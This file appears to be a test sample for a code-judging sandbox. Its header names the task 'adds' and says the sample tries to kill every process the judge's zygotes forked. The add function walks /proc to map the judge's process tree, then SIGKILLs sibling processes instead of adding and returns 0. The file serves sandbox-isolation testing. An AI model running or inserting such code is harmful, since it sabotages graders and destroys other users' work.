# class: A16
# task: adds
# mode: split
# expect: assertion | exception | exit
# lost-without: uid, namespaces
# tries: kills every other process that the zygotes forked

import signal
import os


def above():
    """The zygote and the processes above it."""
    found, pid = [], os.getppid()
    while pid > 1 and len(found) < 2:
        found.append(pid)
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rpartition(")")[2].split()[1])
    return found


def children(pid):
    found = []
    for thread in os.listdir(f"/proc/{pid}/task"):
        with open(f"/proc/{pid}/task/{thread}/children") as file:
            found += map(int, file.read().split())
    return found


def zygotes():
    try:
        return children(above()[-1])
    except (OSError, IndexError):
        return []


def relatives():
    """Every process of the judge but this one."""
    try:
        found = above() + zygotes()
        for pid in zygotes():
            found += children(pid)
    except OSError:
        found = [os.getppid()]
    return [pid for pid in dict.fromkeys(found) if pid != os.getpid()]


def add(a, b):
    for pid in relatives():
        if pid not in above() and pid not in zygotes():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                continue
    return 0
